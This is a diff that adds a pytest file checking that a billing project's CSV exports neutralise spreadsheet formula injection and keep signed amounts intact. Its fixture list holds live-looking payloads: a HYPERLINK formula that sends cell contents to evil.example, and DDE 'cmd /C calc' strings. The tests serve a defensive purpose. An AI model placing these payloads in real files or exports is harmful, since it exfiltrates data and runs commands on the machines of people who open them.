@@ -1,0 +1,166 @@
+"""Every CSV the project writes neutralises text a spreadsheet would run as a
+formula (OWASP: a cell beginning with =, +, -, @, tab or carriage return gets a '
+in front) and writes the amounts it formats itself unchanged."""
+
+import csv
+import io
+from datetime import UTC, date, datetime
+from decimal import Decimal as D
+
+import pytest
+
+from billing.core.spreadsheet_csv import Figure, SpreadsheetCsv
+from billing.journal.export import trial_balance, trial_balance_lines
+from billing.journal.models import JournalEntry
+from billing.margins.report import Margin, margins_csv
+from tests.factories import CustomerFactory, api_client
+from wallets.revenue import RevenueMonth, credit_revenue_csv
+
+# One a prefix OWASP names; the formula each would run.
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/leak?"&A1,"open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+# Customer ids take no spaces, '/', '?', '#', '%' or '\\': formulas that fit.
+CUSTOMER_IDS = [
+    '=HYPERLINK("evil.example"&A1,"open")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)",
+    "tab",
+    "cr",
+]
+
+
+def cells(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def test_the_writer_neutralises_each_prefix_and_writes_figures_as_they_are():
+    writer = SpreadsheetCsv()
+
+    line = writer.row([*HOSTILE, "acme", "", None, Figure("-8.47"), D("-0.50"), -3])
+
+    assert cells(line) == [
+        [
+            *("'" + text for text in HOSTILE),
+            "acme",
+            "",
+            "",
+            "-8.47",
+            "-0.50",
+            "-3",
+        ]
+    ]
+
+
+def test_the_writer_refuses_a_cell_it_cannot_tell_text_from_number():
+    with pytest.raises(TypeError, match="float"):
+        SpreadsheetCsv().row([1.5])
+
+
+def journal_rows(count: int = 6) -> None:
+    """A document per hostile text: Dr receivable 8.47 / Cr revenue 8.47 of a
+    customer whose id is a formula, its number, memo and account name the text."""
+    written = datetime(2026, 11, 5, tzinfo=UTC)
+    for index in range(count):
+        external_id = HOSTILE[index]
+        customer = CustomerFactory(external_id=CUSTOMER_IDS[index])
+        for line, (account, debit, credit) in enumerate(
+            [("1100", D("8.47"), D(0)), ("4000", D(0), D("8.47"))]
+        ):
+            JournalEntry.objects.create(
+                date=date(2026, 11, 5),
+                document_date=date(2026, 11, 5),
+                document_type="payment",
+                document=external_id[:64],
+                document_key=f"payment:{index}",
+                line=line,
+                customer=customer,
+                kind="receivable" if account == "1100" else "revenue",
+                account=account,
+                account_name=external_id[:150],
+                debit=debit,
+                credit=credit,
+                currency="USD",
+                memo=external_id,
+                written_at=written,
+            )
+
+
+def body(response) -> str:
+    assert response.status_code == 200, response
+    return b"".join(response.streaming_content).decode()
+
+
+@pytest.mark.django_db
+def test_the_journal_csv_neutralises_ids_references_and_memos_and_keeps_amounts():
+    journal_rows()
+
+    found = cells(body(api_client().get("/api/v1/journal.csv?from=2026-11-01&to=2026-12-01")))
+
+    header, rows = found[0], found[1:]
+    assert len(rows) == 12
+    for row in rows:
+        entry = dict(zip(header, row, strict=True))
+        index = HOSTILE.index(entry["memo"][1:])
+        assert entry["memo"][0] == "'"
+        assert entry["document"] == entry["account_name"] == entry["memo"]
+        customer = CUSTOMER_IDS[index]
+        assert entry["customer"] == (customer if index > 3 else "'" + customer)
+        assert (entry["debit"], entry["credit"]) in {("8.47", "0.00"), ("0.00", "8.47")}
+
+
+@pytest.mark.django_db
+def test_the_xero_csv_neutralises_its_text_and_keeps_signed_amounts():
+    journal_rows()
+
+    found = cells(
+        body(api_client().get("/api/v1/journal.csv?from=2026-11-01&to=2026-12-01&format=xero"))
+    )
+
+    rows = found[1:]
+    assert len(rows) == 12
+    for narration, _day, description, account, _tax, amount, *_ in rows:
+        assert narration.startswith("payment ")
+        assert description[0] == "'" and description[1:].startswith(tuple(HOSTILE))
+        assert (account, amount) in {("1100", "8.47"), ("4000", "-8.47")}
+
+
+@pytest.mark.django_db
+def test_the_trial_balance_csv_neutralises_account_names_and_keeps_amounts():
+    journal_rows(1)
+    JournalEntry.objects.filter(account="4000").update(account="-4000")
+
+    rows = trial_balance(date(2026, 11, 1), date(2026, 12, 1))
+    found = cells("".join(trial_balance_lines(rows)))
+
+    assert found[1:] == [
+        ["2026-11", "'-4000", "'" + HOSTILE[0], "USD", "0.00", "8.47", "-8.47"],
+        ["2026-11", "1100", "'" + HOSTILE[0], "USD", "8.47", "0.00", "8.47"],
+    ]
+
+
+def test_the_margins_csv_neutralises_keys_and_keeps_negative_margins():
+    rows = [
+        Margin(key={"model": text}, revenue=D("1.00"), cost=D("9.47"), uncosted_quantity=D(5))
+        for text in HOSTILE
+    ]
+
+    found = cells(margins_csv(rows, group_by="model", currency="USD"))
+
+    assert found[1:] == [
+        ["'" + text, "1.00", "9.47", "-8.47", "-847.00", "5", "USD"] for text in HOSTILE
+    ]
+
+
+def test_the_credit_revenue_csv_keeps_its_amounts():
+    rows = [RevenueMonth(date(2026, 11, 1), "USD", D("0"), D("10.00"), D("18.47"), D("0"))]
+
+    found = cells(credit_revenue_csv(rows))
+
+    assert found[1:] == [["2026-11", "USD", "0.00", "10.00", "18.47", "0.00", "-8.47"]]
